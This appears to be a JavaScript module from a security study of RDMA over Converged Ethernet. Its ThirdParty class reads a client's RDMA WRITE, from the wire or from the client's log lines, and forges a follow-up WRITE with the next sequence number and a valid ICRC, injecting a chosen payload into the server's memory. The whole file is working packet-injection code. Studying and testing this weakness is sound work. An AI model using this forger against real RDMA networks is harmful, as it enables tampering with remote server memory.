// A third party at the wire: it reads one RDMA WRITE of the client's and sends the
// server another one, with the next PSN. docs/psn_security.md tells the story, and
// scripts/lib/wiretap/ is the same for two virtual machines.
import {dissect} from './packet.js';
import {crc32} from './crc32.js';

const ETHERNET = 14, IPV4 = 20, UDP = 8, BTH = 12, RETH = 16, ICRC = 4;
const WRITE_ONLY = 0x0a, ROCE_PORT = 4791;
const PAYLOAD = new TextEncoder().encode('forged: neither of you wrote this\0');

// The invariant checksum of an IPv4 packet without the one at its end: what a
// router may change counts as ones, after eight bytes of ones.
export function icrc(packet) {
	const masked = new Uint8Array(8 + packet.length).fill(0xff, 0, 8);
	masked.set(packet, 8);
	for (const at of [1, 8, 10, 11, IPV4 + 6, IPV4 + 7, IPV4 + UDP + 4])
		masked[8 + at] = 0xff;
	return crc32(masked);
}

function ipChecksum(header) {
	let total = 0;
	for (let at = 0; at < header.length; at += 2)
		total += header[at] << 8 | header[at + 1];
	while (total > 0xffff)
		total = (total & 0xffff) + (total >> 16);
	return ~total & 0xffff;
}

// A frame like the one it saw, to the same, from the same: with another WRITE.
// like: a frame of the client's; addresses: 8 bytes; write: {qpn, psn, va, rkey}.
export function forge(like, addresses, {qpn, psn, va, rkey}, payload) {
	const pad = -payload.length & 3;
	const udp = UDP + BTH + RETH + payload.length + pad + ICRC;
	const frame = new Uint8Array(ETHERNET + IPV4 + udp), view = new DataView(frame.buffer);
	frame.set(like.subarray(0, 12));
	view.setUint16(12, 0x0800);
	let at = ETHERNET;
	view.setUint16(at, 0x4500);
	view.setUint16(at + 2, IPV4 + udp);
	view.setUint16(at + 6, 0x4000);
	frame.set([64, 17], at + 8);
	frame.set(addresses, at + 12);
	view.setUint16(at + 10, ipChecksum(frame.subarray(at, at + IPV4)));
	at += IPV4;
	[49152, ROCE_PORT, udp, 0].forEach((x, i) => view.setUint16(at + 2 * i, x));
	at += UDP;
	// The default partition; nobody is asked for an acknowledgement.
	frame.set([WRITE_ONLY, pad << 4, 0xff, 0xff], at);
	view.setUint32(at + 4, qpn);
	view.setUint32(at + 8, psn);
	view.setBigUint64(at + BTH, va);
	view.setUint32(at + BTH + 8, rkey);
	view.setUint32(at + BTH + 12, payload.length);
	frame.set(payload, at + BTH + RETH);
	view.setUint32(frame.length - ICRC, icrc(frame.subarray(ETHERNET, -ICRC)), true);
	return frame;
}

// What the client's own log says of its WRITE, for a wire that cannot be read.
export function told(lines) {
	const text = lines.join('\n');
	const [qpn, psn, va, rkey] = [/dest_qp_num=(\w+)/, /\bsq_psn=(\w+)/,
		/peer_mr\.addr=(\w+)/, /peer_mr\.rkey=(\w+)/].map(x => x.exec(text)?.[1]);
	if (!rkey)
		return null;
	// Two messages are before it: the client's number, and the server's back.
	return {qpn: Number(qpn), psn: Number(psn) + 2 & 0xffffff, va: BigInt(va), rkey: Number(rkey)};
}

const TO_SERVER = [192, 0, 2, 2, 192, 0, 2, 1];

export class ThirdParty {
	// link: open, nothing, badkey (what it sends); told, macsec (it reads no packet).
	constructor(link) {
		Object.assign(this, {link, lines: [], sent: 0, frame: null,
			blind: link === 'told' || link === 'macsec'});
	}

	// A line of the client's log: what to send at once, or null. It may be told only
	// when the packet is past behind which that belongs.
	hear(line) {
		this.lines.push(line);
		return this.blind && !this.frame && this.last ? this.look(this.last) : null;
	}

	// For each frame that the client has sent: what to send behind it, or null.
	look(bytes) {
		const first = !this.frame;
		this.last = bytes;
		this.frame ??= this.blind ? this.fromLog(bytes) : this.fromPacket(bytes);
		// Who cannot read does not know which frame is which, and tries behind each.
		const send = this.frame && (first || this.blind) ? this.frame : null;
		this.sent += send ? 1 : 0;
		return send;
	}

	fromPacket(bytes) {
		const packet = dissect(bytes);
		if (packet.transport !== 'roce' || packet.opcode !== WRITE_ONLY)
			return null;
		return this.next(bytes, {qpn: packet.destqp, psn: packet.psn, va: packet.va, rkey: packet.rkey});
	}

	fromLog(bytes) {
		const write = told(this.lines);
		return write && this.next(bytes, write);
	}

	next(bytes, write) {
		const psn = write.psn + 1 & 0xffffff;
		if (this.link === 'nothing')
			return forge(bytes, TO_SERVER, {...write, psn, va: 0n, rkey: 0}, new Uint8Array());
		const rkey = this.link === 'badkey' ? (write.rkey ^ 0x80) >>> 0 : write.rkey;
		return forge(bytes, TO_SERVER, {...write, psn, rkey}, PAYLOAD);
	}
}
